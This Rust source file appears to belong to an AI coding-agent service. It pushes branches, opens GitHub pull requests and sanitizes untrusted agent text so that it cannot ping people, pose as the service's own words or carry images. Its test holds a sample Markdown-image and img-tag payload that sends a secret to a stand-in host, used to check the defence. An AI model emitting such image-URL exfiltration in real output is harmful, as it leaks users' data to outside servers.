//! The code-host lane of the outbox, on GitHub: pushes a turn's branch and opens its pull request
//! (octocrab, against `GITHUB_API_URL` with `GITHUB_TOKEN`), then records it and tells the thread;
//! deletes the branches of best-of-N attempts nobody chose. Every step is idempotent, so a row
//! retried after a crash halfway pushes the same commits and finds the pull request it opened.

use crate::backend::command::branches;
use crate::backend::valid_pr_url;
use crate::context::Ctx;
use crate::db::Db;
use crate::ids::{RepoName, TaskId, UserId};
use crate::queue::outbox::{backoff, Deliver, Delivery, OutboxRow, CODE_HOST_LANE};
use crate::session::publish::{CodeHostOp, Publish};
use crate::session::{self, pulls};
use crate::templates::{normalize_text, one_line};
use handlebars::Handlebars;
use octocrab::Octocrab;
use secrecy::ExposeSecret;
use serde_json::json;
use std::sync::Arc;
use std::time::Duration;

pub struct Publisher {
    ctx: Arc<Ctx>,
    egress: crate::egress::Egress,
    client: Octocrab,
    body: Handlebars<'static>,
}

impl Publisher {
    pub fn new(ctx: Arc<Ctx>) -> anyhow::Result<Self> {
        let api = ctx.config.endpoints.github().to_string();
        let mut builder = Octocrab::builder()
            .base_uri(api.as_str())
            .map_err(|e| anyhow::anyhow!("GITHUB_API_URL {api:?} is not a URL: {e}"))?;
        if let Some(token) = &ctx.config.secrets.github_token {
            builder = builder.personal_token(token.expose_secret().to_string());
        }
        // GitHub asks every REST call to name the API version it was written against.
        let client = builder
            .add_header(
                axum::http::HeaderName::from_static("x-github-api-version"),
                "2022-11-28".into(),
            )
            .set_connect_timeout(Some(Duration::from_secs(10)))
            .set_read_timeout(Some(Duration::from_secs(30)))
            .build()?;
        let mut body = Handlebars::new();
        body.register_escape_fn(handlebars::no_escape);
        body.set_strict_mode(true);
        body.register_template_string(
            "pull_request",
            include_str!("../../templates/github/pull_request.md.hbs"),
        )?;
        let egress = crate::egress::Egress::from_config(&ctx.config);
        Ok(Self {
            ctx,
            egress,
            client,
            body,
        })
    }

    async fn publish(&self, row: &OutboxRow, p: &Publish) -> Delivery {
        let config = &self.ctx.config;
        let token = config.secrets.github_token.as_ref();
        let api = config.endpoints.github();
        if let Err(e) = branches::push_branch(
            &config.agent.workdir,
            &p.repo,
            &p.branch,
            api,
            token,
            &self.egress,
        )
        .await
        {
            return push_failed(row, e);
        }
        // A later turn of the session pushed to the pull request its first turn opened.
        match pulls::open_for_branch(&self.ctx.db, &p.repo, &p.branch).await {
            Ok(Some(url)) => return Delivery::Sent(Some(url)),
            Ok(None) => {}
            Err(e) => return Delivery::RetryIn(backoff(row.attempts), format!("{e:#}")),
        }
        let url = match self.open(p).await {
            Ok(url) => url,
            Err(d) => return d,
        };
        match self.record(p, &url).await {
            Ok(()) => Delivery::Sent(Some(url)),
            // Opened but not recorded: the retry finds it (422, "already exists") and records it.
            Err(e) => Delivery::RetryIn(backoff(row.attempts), format!("{e:#}")),
        }
    }

    /// Opens the pull request, or finds the one an earlier attempt of this row opened.
    async fn open(&self, p: &Publish) -> Result<String, Delivery> {
        self.egress
            .check(self.ctx.config.endpoints.github())
            .map_err(|e| Delivery::Failed(format!("GitHub: {e}")))?;
        let (owner, name) = p.repo.parts();
        let pulls = self.client.pulls(owner, name);
        let base = match &p.base {
            Some(b) => b.clone(),
            None => self
                .client
                .repos(owner, name)
                .get()
                .await
                .map_err(|e| classify(e, "reading the repository's default branch"))?
                .default_branch
                .unwrap_or_else(|| "main".into()),
        };
        let body = self
            .body
            .render("pull_request", &body_view(p))
            .map_err(|e| Delivery::Failed(format!("cannot render the pull request: {e}")))?;
        let created = pulls
            .create(title(&p.prompt), &p.branch, &base)
            .body(body)
            .draft(p.draft)
            .send()
            .await;
        let pr = match created {
            Ok(pr) => pr,
            Err(octocrab::Error::GitHub { source, .. })
                if source.status_code.as_u16() == 422
                    && source.message.contains("already exists")
                    || format!("{:?}", source.errors).contains("already exists") =>
            {
                let open = pulls
                    .list()
                    .head(format!("{owner}:{}", p.branch))
                    .state(octocrab::params::State::Open)
                    .send()
                    .await
                    .map_err(|e| classify(e, "finding the pull request already open"))?;
                open.items.into_iter().next().ok_or_else(|| {
                    Delivery::Failed("GitHub says a pull request exists but lists none".into())
                })?
            }
            Err(e) => return Err(classify(e, "opening the pull request")),
        };
        pr.html_url
            .as_ref()
            .and_then(|u| valid_pr_url(u.as_str()))
            .ok_or_else(|| Delivery::Failed("GitHub's answer has no usable html_url".into()))
    }

    /// Tracks the pull request (merges and CI come back through the webhook) and tells the thread.
    async fn record(&self, p: &Publish, url: &str) -> anyhow::Result<()> {
        let mut tx = self.ctx.db.begin().await?;
        let task = session::get_task(&mut tx, &TaskId::new(&p.task_id))
            .await?
            .ok_or_else(|| anyhow::anyhow!("task {} is gone", p.task_id))?;
        pulls::track(&mut tx, &task, url, Some(&p.branch)).await?;
        let text = format!(
            "Opened a pull request with this thread's work: {url} (branch `{}`).",
            p.branch
        );
        self.tell_requester(&mut tx, &task, &format!("pr-opened:{}", p.task_id), &text)
            .await?;
        tx.commit().await?;
        self.ctx.wake();
        Ok(())
    }

    /// One short reply to the task's requester in its thread; false when the thread's surface is
    /// not running here (what it was about is recorded all the same).
    async fn tell_requester(
        &self,
        tx: &mut sqlx::AnyConnection,
        task: &session::Task,
        key: &str,
        text: &str,
    ) -> anyhow::Result<bool> {
        let Ok(connector) = self.ctx.connectors.for_binding(&task.binding) else {
            return Ok(false);
        };
        let to = UserId::new(&task.requester);
        connector
            .reporter()
            .tell(tx, &task.binding, key, &to, text)
            .await?;
        Ok(true)
    }

    async fn push(&self, row: &OutboxRow, repo: &RepoName, names: &[String]) -> Delivery {
        let config = &self.ctx.config;
        let token = config.secrets.github_token.as_ref();
        let api = config.endpoints.github();
        for branch in names {
            if let Err(e) = branches::push_branch(
                &config.agent.workdir,
                repo,
                branch,
                api,
                token,
                &self.egress,
            )
            .await
            {
                return push_failed(row, e);
            }
        }
        Delivery::Sent(None)
    }

    async fn delete(&self, row: &OutboxRow, repo: &RepoName, names: &[String]) -> Delivery {
        let config = &self.ctx.config;
        let token = config.secrets.github_token.as_ref();
        let api = config.endpoints.github();
        match branches::delete_branches(
            &config.agent.workdir,
            repo,
            names,
            api,
            token,
            &self.egress,
        )
        .await
        {
            Ok(()) => Delivery::Sent(None),
            Err(e) => push_failed(row, e),
        }
    }
}

/// A push refused by `[network]` is for good; any other git failure is retried.
fn push_failed(row: &OutboxRow, e: anyhow::Error) -> Delivery {
    match e.downcast_ref::<crate::egress::Refused>() {
        Some(refused) => Delivery::Failed(format!("pushing: {refused}")),
        None => Delivery::RetryIn(backoff(row.attempts), format!("{e:#}")),
    }
}

/// What an octocrab error means for the row: GitHub refusing it (bad token, no access, a branch
/// it will not take) is for good; rate limits wait; anything else is retried.
fn classify(e: octocrab::Error, doing: &str) -> Delivery {
    match &e {
        octocrab::Error::GitHub { source, .. } => {
            let status = source.status_code.as_u16();
            let why = format!("{doing}: GitHub answered {status}: {}", source.message);
            match status {
                403 | 429 if source.message.to_ascii_lowercase().contains("rate limit") => {
                    Delivery::Wait(Duration::from_secs(60), why)
                }
                400..=499 => Delivery::Failed(why),
                _ => Delivery::RetryIn(Duration::from_secs(5), why),
            }
        }
        _ => Delivery::RetryIn(Duration::from_secs(5), format!("{doing}: {e}")),
    }
}

/// `@` followed by a zero-width space: text from a thread or an agent must not ping people or
/// teams on GitHub.
fn no_mentions(s: &str) -> String {
    s.replace('@', "@\u{200B}")
}

/// The pull request's title: the request's first line.
fn title(prompt: &str) -> String {
    let first = one_line(prompt.trim(), 72);
    no_mentions(&format!("Chime: {first}"))
}

/// Every line of untrusted text as a Markdown quote, so it cannot pose as Chime's own words; and no
/// image or HTML in it, since GitHub fetches an image's URL for every reader (a URL that could
/// carry what the agent read to someone's server).
fn quoted(s: &str) -> String {
    let defused = no_mentions(s).replace('<', "&lt;").replace("![", "!\\[");
    normalize_text(&defused)
        .lines()
        .map(|l| format!("> {l}"))
        .collect::<Vec<_>>()
        .join("\n")
}

fn body_view(p: &Publish) -> serde_json::Value {
    json!({
        "summary": quoted(&p.summary),
        "prompt": quoted(&p.prompt),
        "diff_stat": p.diff_stat.replace("```", "'''"),
        "requester": one_line(&p.requester, 80),
        "surface": p.surface,
        "also": p.also.iter().map(|a| one_line(a, 120)).collect::<Vec<_>>(),
        "thread_link": p.thread_link,
        "turn": p.turn_no,
    })
}

#[async_trait::async_trait]
impl Deliver for Publisher {
    fn lane(&self) -> &'static str {
        CODE_HOST_LANE
    }

    async fn deliver(&self, _db: &Db, row: &OutboxRow) -> Delivery {
        match row.op::<CodeHostOp>() {
            Ok(CodeHostOp::Publish(p)) => self.publish(row, &p).await,
            Ok(CodeHostOp::PushBranches { repo, branches }) => {
                self.push(row, &repo, &branches).await
            }
            Ok(CodeHostOp::DeleteBranches { repo, branches }) => {
                self.delete(row, &repo, &branches).await
            }
            Err(refused) => refused,
        }
    }

    /// A pull request that could not be opened is told to the thread, with where the work is.
    async fn refused(&self, db: &Db, row: &OutboxRow, why: &str) -> anyhow::Result<bool> {
        let Ok(CodeHostOp::Publish(p)) = row.op::<CodeHostOp>() else {
            return Ok(false);
        };
        let mut tx = db.begin().await?;
        let Some(task) = session::get_task(&mut tx, &TaskId::new(&p.task_id)).await? else {
            return Ok(false);
        };
        let text = format!(
            "I could not open a pull request for turn {}: {}. The work stays on branch `{}` in Chime's mirror of {}.",
            p.turn_no,
            one_line(why, 300),
            p.branch,
            p.repo
        );
        let key = format!("pr-refused:{}", p.task_id);
        let told = self.tell_requester(&mut tx, &task, &key, &text).await?;
        tx.commit().await?;
        Ok(told)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn untrusted_text_neither_pings_nor_poses() {
        assert_eq!(
            title("@acme/admins fix it\nnow"),
            "Chime: @\u{200B}acme/admins fix it now"
        );
        let q = quoted("done\n## Approved by @security\r\nok");
        assert_eq!(q, "> done\n> ## Approved by @\u{200B}security\n> ok");
        assert!(!quoted("a\u{2028}b").contains('\u{2028}'));
        let q = quoted("![x](https://evil.example/?k=secret) <img src=\"https://evil.example/p\">");
        assert!(!q.contains("![") && !q.contains("<img"), "{q}");
    }
}
